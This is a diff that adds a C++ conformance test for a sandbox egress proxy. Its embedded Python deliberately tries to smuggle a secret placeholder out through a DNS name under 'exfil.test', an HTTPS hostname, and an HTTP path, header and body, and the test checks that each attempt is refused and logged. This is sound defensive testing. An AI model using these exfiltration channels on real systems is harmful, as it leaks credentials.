@@ -431,3 +431,92 @@ print(json.dumps({{'rebind': get('http://{0}:{2}/rates'),
   }
   CHECK(refused == 3);
 }
+
+TEST_CASE("egress: a secret is only a placeholder inside, refused wherever it may not go",
+          "[egress][secrets][core]") {
+  CONFORMANCE_BACKEND(b);
+  if (!origins_ready()) return;
+  if (!b.expect().egress_proxy) return;  // covered by the first case
+  const auto before = origin_seen();
+  auto req = network_request(b, prelude() + fmt::format(R"PY(
+ph = os.environ.get('SANDBOX_SECRET_RATES_API', '')
+report = {{'placeholder': ph}}
+# 1. A name carrying it, looked up inside (the DNS sink) and asked of the proxy.
+try:
+    socket.getaddrinfo(ph[-32:] + '.exfil.test', 443)
+    report['dns'] = 'resolved'
+except OSError as e:
+    report['dns'] = type(e).__name__
+report['https_name'] = get('https://' + ph[-32:] + '.{0}:{1}/rates')
+# 2. To the secret's own name, but in a path, another header and a body (plain HTTP: the
+#    proxy reads it in clear).
+report['path'] = get(HTTP + '/echo?key=' + ph)
+def send(req):
+    try:
+        with opener.open(req, timeout=5) as r:
+            return [r.status, r.read().decode()]
+    except urllib.error.HTTPError as e:
+        return [e.code, e.read().decode(errors='replace')]
+    except Exception as e:
+        return [0, type(e).__name__ + ': ' + str(e)]
+report['header'] = send(urllib.request.Request(HTTP + '/echo', headers={{'X-Api-Key': ph}}))
+report['body'] = send(urllib.request.Request(HTTP + '/echo', data=('k=' + ph).encode()))
+# 3. Without it, the same name still answers.
+report['clean'] = get(HTTP + '/echo')
+print(json.dumps(report))
+)PY",
+                                                        conformance::egress_approved_name,
+                                                        conformance::egress_origin().https_port));
+  req.secrets = {conformance::secret_name};
+  auto ticket_spec = sandbox::ticket_spec{
+      .id = "egress-secret",
+      .tenant = "conformance",
+      .isolation = b.profile().level,
+      .max_timeout = std::chrono::milliseconds(8000) + conformance::startup_allowance(),
+      .max_memory_bytes = 1ULL << 30,
+      .egress = {conformance::egress_approved_name}};
+  ticket_spec.secrets = {conformance::secret_name};
+  auto r = b.rt().run(
+      req, sandbox::ticket_issuer{}.issue(ticket_spec, sandbox::network_grant{}).value());
+  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
+                  << attempts_text(r));
+  REQUIRE(r.code == code::ok);
+  auto j = report_of(r);
+  REQUIRE(j.is_object());
+  // The program holds a per-run placeholder, never the value.
+  const std::string ph = j["placeholder"].get<std::string>();
+  CHECK(ph.size() == 43);
+  CHECK(ph.rfind("sbx-secret-", 0) == 0);
+  const std::string value = conformance::secret_value;
+  CHECK(b.blob(r.std_out.blob).find(value) == std::string::npos);
+  CHECK(b.blob(r.std_err.blob).find(value) == std::string::npos);
+  CHECK(sandbox::encode(r).find(value) == std::string::npos);
+  // Each misuse is refused with the reason, the 403 body saying what would be allowed.
+  CHECK(j["dns"] != "resolved");
+  CHECK(j["https_name"][0] == 0);
+  CHECK(j["https_name"][1].get<std::string>().find("403") != std::string::npos);
+  for (const char* k : {"path", "header", "body"}) {
+    CAPTURE(k);
+    CHECK(j[k][0] == 403);
+    CHECK(j[k][1].get<std::string>().find("secret_misuse") != std::string::npos);
+  }
+  CHECK(j["clean"][0] == 200);
+  // The origins' own counters: only the clean request arrived.
+  auto seen = origin_seen();
+  CHECK(seen.https_connections == before.https_connections);
+  CHECK(seen.https_requests == before.https_requests);
+  CHECK(seen.http_connections == before.http_connections + 1);
+  // And the record says so: the CONNECT name and the plain-HTTP requests (path, header and
+  // body give equal records, listed once and counted as dropped), and the DNS query.
+  int https_misuse = 0, http_misuse = 0, dns_misuse = 0;
+  for (const auto& a : r.egress_attempts) {
+    if (a.reason != "secret_misuse") continue;
+    CHECK_FALSE(a.allowed);
+    CHECK(a.bytes_up == 0);
+    (a.protocol == "dns" ? dns_misuse : a.protocol == "https" ? https_misuse : http_misuse) += 1;
+  }
+  CHECK(https_misuse == 1);
+  CHECK(http_misuse == 1);
+  CHECK(r.egress_attempts_dropped >= 2);
+  CHECK(dns_misuse >= 1);
+}
